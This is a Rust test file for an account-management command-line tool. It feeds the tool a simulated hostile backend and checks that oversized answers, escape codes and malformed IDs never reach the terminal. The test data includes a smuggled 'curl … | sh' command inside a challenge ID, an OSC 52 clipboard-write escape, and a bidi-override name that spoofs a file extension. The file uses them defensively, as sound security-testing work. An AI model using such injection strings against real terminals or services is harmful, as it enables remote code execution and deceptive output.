//! What a hostile backend answers: malformed IDs and escape codes in its
//! strings (items 6 and 18), answers too large to read (7).

#[cfg(unix)]
use std::time::Duration;

#[cfg(unix)]
use super::SNAPSHOTS;
#[cfg(unix)]
use super::server::HOSTILE_TOKEN;
use super::server::{ACC, Hostile, MALLORY, Reply, account_json, challenge_json, ok};
use super::{assert_clean, at, snap};
use crate::common::TestEnv;

// --- 6: backend strings and IDs -------------------------------------------

#[test]
fn a_malformed_challenge_id_is_an_error_and_never_a_suggested_command() {
    let env = TestEnv::new();
    let hostile = Hostile::start(|seen| match seen.method.as_str() {
        "GET" => ok(account_json(ACC, MALLORY)),
        _ => Reply::Json(201, Vec::new(), challenge_json("chl_1 ; curl http://127.0.0.1:9/x|sh #")),
    });
    let run = at(&env, &hostile.url, &["code", "send", ACC, "-o", "json"], None);
    snap(&env, "malformed_challenge_id", &[(hostile.url.as_str(), "[HOSTILE]")], &run);
    assert!(!run.stderr.contains("curl") && !run.stdout.contains("curl"));
}

#[test]
fn lock_unlock_and_revoke_never_print_a_malformed_account_id() {
    let env = TestEnv::new();
    let evil_id = "acc_\u{1b}]52;c;Y3VybCBldmls\u{7}owned";
    let hostile = Hostile::start(move |seen| match (seen.method.as_str(), seen.path.as_str()) {
        ("GET", _) => ok(account_json(ACC, MALLORY)),
        (_, p) if p.ends_with(":revoke") => {
            ok(serde_json::json!({"account_id": evil_id, "sessions_revoked": 2}).to_string())
        }
        _ => ok(account_json(evil_id, MALLORY).replace("\"active\"", "\"locked\"")),
    });
    let urls = [(hostile.url.as_str(), "[HOSTILE]")];
    for (name, args) in [
        ("malformed_account_id_lock", ["account", "lock", ACC]),
        ("malformed_account_id_unlock", ["account", "unlock", ACC]),
        ("malformed_account_id_revoke", ["sessions", "revoke", ACC]),
    ] {
        let run = at(&env, &hostile.url, &args, None);
        assert_clean(&run.stderr);
        assert_clean(&run.stdout);
        snap(&env, name, &urls, &run);
    }
}

#[test]
fn the_lookup_summary_never_prints_a_raw_error_code() {
    let env = TestEnv::new();
    let hostile = Hostile::start(|seen| {
        let body: serde_json::Value = serde_json::from_slice(&seen.body).unwrap_or_default();
        let results: Vec<_> = body["identifiers"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|i| serde_json::json!({"input": i, "error": {"code": "\u{1b}[31mowned\u{1b}]0;title\u{7}", "detail": "x"}}))
            .collect();
        ok(serde_json::json!({ "results": results }).to_string())
    });
    let run = at(&env, &hostile.url, &["lookup", "-"], Some(b"acc_demoalice\nacc_demobob\n"));
    assert_clean(&run.stderr);
    snap(&env, "lookup_summary_malformed_code", &[(hostile.url.as_str(), "[HOSTILE]")], &run);
}

#[test]
fn escape_codes_in_every_string_field_never_reach_the_terminal() {
    let env = TestEnv::new();
    let hostile = Hostile::start(|_| ok(account_json(ACC, MALLORY)));
    let urls = [(hostile.url.as_str(), "[HOSTILE]")];
    for (name, format) in
        [("hostile_fields_table", "table"), ("hostile_fields_csv", "csv"), ("hostile_fields_tsv", "tsv")]
    {
        let run = at(
            &env,
            &hostile.url,
            &["lookup", ACC, "-o", format, "--fields", "id,display_name,email,phone,devices"],
            None,
        );
        run.assert_code(0);
        assert_clean(&run.stdout);
        assert_clean(&run.stderr);
        snap(&env, name, &urls, &run);
    }
    // One account in a table is a card, with its own layout.
    let run = at(&env, &hostile.url, &["lookup", ACC, "-o", "table"], None);
    assert_clean(&run.stdout);
    snap(&env, "hostile_fields_card", &urls, &run);
}

// --- 7: answer size -------------------------------------------------------

#[test]
fn an_answer_over_the_size_limit_is_refused_naming_the_limit() {
    let env = TestEnv::new();
    let hostile = Hostile::start(|seen| match seen.path.as_str() {
        p if p.contains("declared") => Reply::Promise { declared: 3_000_000_000 },
        _ => Reply::Chunked { total: 20 << 20 },
    });
    let urls = [(hostile.url.as_str(), "[HOSTILE]")];
    // 20 MiB of chunks, valid JSON: refused once past the limit.
    let chunked = at(&env, &hostile.url, &["lookup", ACC, "--fields", "id"], None);
    snap(&env, "answer_chunked_too_large", &urls, &chunked);
    // A 3 GB Content-Length: refused before reading it.
    let declared = at(&env, &hostile.url, &["lookup", "acc_declared1", "--fields", "id"], None);
    snap(&env, "answer_declared_too_large", &urls, &declared);
    // Every batch in flight is capped the same way.
    let stream = at(
        &env,
        &hostile.url,
        &["lookup", "-", "--fields", "input,error,error_detail"],
        Some(b"acc_demoalice\nacc_demobob\n"),
    );
    snap(&env, "answer_too_large_in_a_stream", &urls, &stream);
}

// --- 18: JSON on a terminal -----------------------------------------------

#[cfg(unix)]
#[test]
fn json_on_a_terminal_escapes_c1_and_bidi_controls_with_the_same_value() {
    use expectrl::{Eof, Expect, Session};
    let env = TestEnv::new();
    let name = "Mallory\u{9b}31m\u{202e}gnp.exe\u{85}";
    let hostile = Hostile::start(move |_| ok(account_json(ACC, name)));
    let mut outputs = Vec::new();
    // NDJSON without --fields is the pass-through path: the service's own text.
    for (format, fields) in [("json", "id,display_name"), ("ndjson", "")] {
        let mut cmd = env.command();
        cmd.args(["lookup", ACC, "-o", format]);
        if !fields.is_empty() {
            cmd.args(["--fields", fields]);
        }
        cmd.env("ACCTL_URL", &hostile.url).env("ACCTL_TOKEN", HOSTILE_TOKEN);
        let mut session = Session::spawn(cmd).expect("spawn in a pty");
        session.set_expect_timeout(Some(Duration::from_secs(30)));
        let out = session.expect(Eof).expect("acctl finishes");
        let text = String::from_utf8_lossy(out.as_bytes()).replace("\r\n", "\n");
        assert!(!text.contains('\u{9b}') && !text.contains('\u{202e}') && !text.contains('\u{85}'), "{text:?}");
        assert!(text.contains(r"Mallory\u009b31m\u202egnp.exe\u0085"), "{text}");
        let value: serde_json::Value = if format == "json" {
            serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"))
        } else {
            serde_json::from_str(text.trim()).unwrap_or_else(|e| panic!("{e}: {text}"))
        };
        let record = if format == "json" { &value[0] } else { &value["account"] };
        assert_eq!(record["display_name"], name, "the same value");
        outputs.push(format!("----- -o {format} -----\n{}", text.trim_end()));
    }
    insta::with_settings!({ snapshot_path => SNAPSHOTS, prepend_module_to_snapshot => false }, {
        insta::assert_snapshot!("json_on_a_terminal", outputs.join("\n"));
    });
}
